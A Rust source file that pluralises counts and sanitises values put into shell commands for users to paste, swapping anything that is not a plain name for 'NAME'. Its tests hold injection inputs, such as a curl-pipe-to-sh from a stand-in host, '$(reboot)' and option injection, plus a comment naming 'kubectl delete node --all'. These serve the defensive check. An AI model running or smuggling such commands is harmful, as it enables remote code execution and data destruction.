//! Words of messages.

use core::fmt::Display;

/// A number of things, each of which is called `one`: "1 Machine", "2 Machines".
pub fn counted<N: Copy + Display + PartialEq + From<u8>>(count: N, one: &str) -> String {
    let ending = if count == N::from(1) { "" } else { "s" };
    format!("{count} {one}{ending}")
}

/// Whether a text means itself in a command: a name or UID, neither an option nor anything that a
/// shell acts on.
pub fn is_plain(text: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '-');
    text.len() <= 253
        && text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text.chars().all(is_plain)
}

/// A value in a command for people to paste. What is not the name of an object of ours, which the
/// API server has checked, may be chosen by a host, a workload cluster, a gateway or a user: one
/// that is not plain is left for the reader to fill in.
pub fn word(value: &str) -> &str {
    if is_plain(value) { value } else { "NAME" }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_in_a_command_means_itself_or_is_left_out() {
        let long = "a".repeat(254);
        for (value, expected) in [
            ("host-a", "host-a"),
            ("host-a.example.org", "host-a.example.org"),
            (
                "1f6a3c0e-8a5b-4c1d-9b2e-0123456789ab",
                "1f6a3c0e-8a5b-4c1d-9b2e-0123456789ab",
            ),
            ("a_b:c", "a_b:c"),
            (&long[..253], &long[..253]),
            (&long, "NAME"),
            ("", "NAME"),
            ("x'; curl evil|sh; '", "NAME"),
            ("$(reboot)", "NAME"),
            ("`reboot`", "NAME"),
            ("a b", "NAME"),
            ("a\nreboot", "NAME"),
            ("a\"", "NAME"),
            ("a/b", "NAME"),
            ("*", "NAME"),
            // kubectl delete node --all
            ("--all", "NAME"),
            ("-A", "NAME"),
            ("..", "NAME"),
            ("ä", "NAME"),
        ] {
            assert_eq!(word(value), expected, "{value:?}");
        }
    }

    #[test]
    fn one_is_one_and_all_other_numbers_are_many() {
        let said = [0, 1, 2].map(|count| counted(count, "worker"));
        assert_eq!(said, ["0 workers", "1 worker", "2 workers"]);
    }
}
